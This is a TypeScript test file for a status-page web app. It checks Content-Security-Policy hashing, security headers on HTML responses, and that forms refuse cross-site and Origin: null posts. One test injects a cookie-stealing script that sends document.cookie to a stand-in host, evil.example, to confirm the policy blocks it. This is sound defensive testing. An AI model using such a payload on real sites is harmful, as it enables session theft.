import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signLinkToken } from '../../src/domain/link-token.ts';
import { loadViews } from '../../src/plugins/views.ts';
import { publicHeaders } from '../../src/snapshot/encoded-body.ts';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { consoleClient, type ConsoleSession } from '../helpers/console-client.ts';

/**
 * Attacks on what pages allow and whom forms trust: an injected script must not be allowed by the
 * page's own policy, every HTML answer (404, console) carries the security headers, and a form post
 * from an opaque origin (Origin: null: sandboxed frames, data: URLs) is refused like a cross-site one.
 */
let t: TestApp;
let session: ConsoleSession;
const FORM = { 'content-type': 'application/x-www-form-urlencoded' };
const hashOf = (script: string) => `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
const inlineScripts = (html: string) => [...html.matchAll(/<script>([\s\S]*?)<\/script>/g)].map((match) => match[1]);

beforeAll(async () => {
  t = await startTestApp();
  const client = consoleClient(t);
  await client.account('admin@example.com', 'admin');
  session = await client.signIn('admin@example.com');
});
afterAll(() => t.close());

function expectPageHeaders(response: { headers: Record<string, unknown> }, what: string) {
  const csp = String(response.headers['content-security-policy']);
  expect(csp, what).toContain("default-src 'none'");
  expect(csp, what).toContain("base-uri 'none'");
  expect(csp, what).not.toContain('unsafe-eval');
  expect(csp, what).not.toMatch(/script-src[^;]*unsafe-inline/);
  expect(response.headers['x-content-type-options'], what).toBe('nosniff');
  expect(response.headers['referrer-policy'], what).toBeTruthy();
}

function expectNotFramed(response: { headers: Record<string, unknown> }, what: string) {
  expect(String(response.headers['content-security-policy']), what).toContain("frame-ancestors 'none'");
  expect(response.headers['x-frame-options'], what).toBe('DENY');
}

describe("public page CSP allows only the templates' own scripts", () => {
  it('does not allow a script that user content smuggled into the rendered page', async () => {
    const charts = await t.app.inject({ method: 'GET', url: '/heartbeat' });
    const [templateScript] = inlineScripts(charts.body);
    expect(templateScript).toContain('time zone');
    const injected = 'fetch("https://evil.example/?c=" + document.cookie)';
    const body = Buffer.from(charts.body.replace('</main>', `<p><script>${injected}</script></p></main>`));
    const csp = publicHeaders('text/html; charset=utf-8', body, t.app.views.scriptHashes)['content-security-policy'];
    expect(csp).not.toContain(hashOf(injected));
    // The template's own script still runs.
    expect(csp).toContain(hashOf(templateScript));
  });

  it('hashes only fixed template scripts, and refuses to start with one built from template values', () => {
    const dir = mkdtempSync(join(tmpdir(), 'lifeline-views-'));
    try {
      mkdirSync(join(dir, 'pages'));
      mkdirSync(join(dir, 'emails'));
      writeFileSync(join(dir, 'pages', 'fixed.hbs'), '<p>{{name}}</p><script>run()</script>');
      writeFileSync(join(dir, 'emails', 'mail.hbs'), '<script>mail()</script>');
      expect([...loadViews(dir).scriptHashes]).toEqual([hashOf('run()')]);
      writeFileSync(join(dir, 'pages', 'built.hbs'), '<script>var name = "{{name}}";</script>');
      expect(() => loadViews(dir)).toThrow(/must be fixed text/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('hashes a src/client script as the page carries it (its text, never read as a template)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'lifeline-views-'));
    const clientDir = mkdtempSync(join(tmpdir(), 'lifeline-client-'));
    try {
      mkdirSync(join(dir, 'pages'));
      writeFileSync(join(clientDir, 'chart.js'), 'var label = "{{name}}";\n');
      writeFileSync(join(dir, 'pages', 'chart.hbs'), '<p>{{name}}</p><script>\n{{> client/chart.js}}</script>');
      const views = loadViews(dir, clientDir);
      const html = views.render('pages/chart', { name: 'Ada' });
      expect(html).toBe('<p>Ada</p><script>\nvar label = "{{name}}";\n</script>');
      expect([...views.scriptHashes]).toEqual([hashOf(inlineScripts(html)[0])]);
      writeFileSync(join(dir, 'pages', 'missing.hbs'), '<script>\n{{> client/missing.js}}</script>');
      expect(() => loadViews(dir, clientDir)).toThrow(/client\/missing\.js is not a file of src\/client/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
      rmSync(clientDir, { recursive: true, force: true });
    }
  });

  it('does not allow an injected script on a page that has none of its own', () => {
    const csp = publicHeaders('text/html; charset=utf-8', Buffer.from('<!doctype html><main><script>alert(1)</script></main>'), t.app.views.scriptHashes)[
      'content-security-policy'
    ];
    expect(csp).toContain("script-src 'none'");
  });

  it('allows the scripts of the views it is given, not of whichever app loaded views last (two apps, one process)', async () => {
    const charts = await t.app.inject({ method: 'GET', url: '/heartbeat' });
    const [templateScript] = inlineScripts(charts.body);
    const body = Buffer.from(charts.body);
    // Views without this script (another app's) allow none of it, whatever this app loaded.
    expect(publicHeaders('text/html; charset=utf-8', body, new Set())['content-security-policy']).toContain("script-src 'none'");
    expect(publicHeaders('text/html; charset=utf-8', body, t.app.views.scriptHashes)['content-security-policy']).toContain(hashOf(templateScript));
    // A second app in the same process, started and closed: the first still allows its own scripts.
    const other = await startTestApp();
    try {
      const theirs = await other.app.inject({ method: 'GET', url: '/heartbeat' });
      expect(String(theirs.headers['content-security-policy'])).toContain(hashOf(inlineScripts(theirs.body)[0]));
    } finally {
      await other.close();
    }
    const ours = await t.app.inject({ method: 'GET', url: '/heartbeat?range=1h' });
    expect(String(ours.headers['content-security-policy'])).toContain(hashOf(inlineScripts(ours.body)[0]));
  });
});

describe('security headers on every HTML answer', () => {
  it('the HTML 404 page', async () => {
    const response = await t.app.inject({ method: 'GET', url: '/no/such/page', headers: { accept: 'text/html' } });
    expect(response.statusCode).toBe(404);
    expectPageHeaders(response, '404');
    expect(String(response.headers['content-security-policy'])).toContain("script-src 'none'");
  });

  it("an unknown incident's and activity chart's 404 pages", async () => {
    for (const url of ['/incidents/nosuchincident', '/heartbeat/nosuchmetric/nowhere']) {
      const response = await t.app.inject({ method: 'GET', url });
      expect(response.statusCode, url).toBe(404);
      expectPageHeaders(response, url);
    }
  });

  it('console pages, redirects, refusals and fragments, none of them framable', async () => {
    const client = consoleClient(t);
    const answers = {
      'sign-in page': await t.app.inject({ method: 'GET', url: '/console/sign-in' }),
      'redirect to sign-in': await t.app.inject({ method: 'GET', url: '/console' }),
      dashboard: await client.get('/console', session),
      'cross-site post': await client.post('/console/sign-out', { _csrf: session.csrf }, session, { 'sec-fetch-site': 'cross-site' }),
      'preview fragment': await client.post('/console/preview', { _csrf: session.csrf, name: 'x', body: 'y' }, session),
      'new incident form': await client.get('/console/incidents/new', session),
    };
    expect(answers['redirect to sign-in'].statusCode).toBe(303);
    expect(answers['cross-site post'].statusCode).toBe(403);
    for (const [what, response] of Object.entries(answers)) {
      expectPageHeaders(response, what);
      expectNotFramed(response, what);
      expect(response.headers['cache-control'], what).toBe('no-store');
    }
    // A console page with script allows exactly its fixed script, by hash (no per-response nonce).
    const form = answers['new incident form'];
    const scripts = inlineScripts(form.body);
    expect(scripts).toHaveLength(1);
    expect(String(form.headers['content-security-policy'])).toContain(`script-src ${hashOf(scripts[0])};`);
  });
});

describe('public data outside the snapshot', () => {
  it('/api/v2/heartbeats.json carries nosniff and the same cross-origin read as the other public JSON', async () => {
    const response = await t.app.inject({ method: 'GET', url: '/api/v2/heartbeats.json' });
    expect(response.statusCode).toBe(200);
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    expect(response.headers['access-control-allow-origin']).toBe('*');
  });
});

describe('public forms refuse an opaque origin', () => {
  const subscriber = async (email: string) => {
    await t.app.inject({
      method: 'POST',
      url: '/subscribe',
      payload: `email=${encodeURIComponent(email)}`,
      headers: { ...FORM, 'sec-fetch-site': 'same-origin' },
      remoteAddress: '203.0.113.50',
    });
    return (await t.db.query<{ id: string }>('SELECT id FROM subscriber WHERE email = $1', [email]))[0].id;
  };
  const post = (url: string, payload: string, headers: Record<string, string>) =>
    t.app.inject({ method: 'POST', url, payload, headers: { ...FORM, ...headers }, remoteAddress: '203.0.113.51' });

  it('answers Origin: null with the same 403 as a cross-site post', async () => {
    const id = await subscriber('opaque@example.org');
    const key = t.app.linkKey();
    const manage = signLinkToken({ subscriberId: id, purpose: 'manage', expiresAt: null }, key);
    const confirm = signLinkToken({ subscriberId: id, purpose: 'confirm', expiresAt: null }, key);
    const targets: [string, string][] = [
      ['/subscribe', 'email=victim%40example.org'],
      ['/subscribe/webhook', 'url=https%3A%2F%2Fhooks.example.org%2Fx&email=victim%40example.org'],
      [`/subscribe/confirm/${confirm}`, ''],
      [`/manage/${manage}`, 'scope=all'],
      [`/manage/${manage}/unsubscribe`, ''],
    ];
    for (const [url, payload] of targets) {
      const crossSite = await post(url, payload, { origin: 'https://evil.example' });
      const opaque = await post(url, payload, { origin: 'null' });
      expect(crossSite.statusCode, url).toBe(403);
      expect(opaque.statusCode, url).toBe(403);
      expect(opaque.body, url).toBe(crossSite.body);
    }
    const rows = await t.db.query<{ confirmed_at: Date | null; unsubscribed_at: Date | null }>(
      'SELECT confirmed_at, unsubscribed_at FROM subscriber WHERE id = $1',
      [id],
    );
    expect(rows[0]).toEqual({ confirmed_at: null, unsubscribed_at: null });
  });

  it('still takes RFC 8058 one-click unsubscribes, which mail providers post without an Origin', async () => {
    const id = await subscriber('oneclick@example.org');
    const token = signLinkToken({ subscriberId: id, purpose: 'unsubscribe', expiresAt: null }, t.app.linkKey());
    const response = await post(`/unsubscribe/${token}`, 'List-Unsubscribe=One-Click', {});
    expect(response.statusCode).toBe(200);
    expect(
      (await t.db.query<{ unsubscribed_at: Date | null }>('SELECT unsubscribed_at FROM subscriber WHERE id = $1', [id]))[0].unsubscribed_at,
    ).not.toBeNull();
  });
});
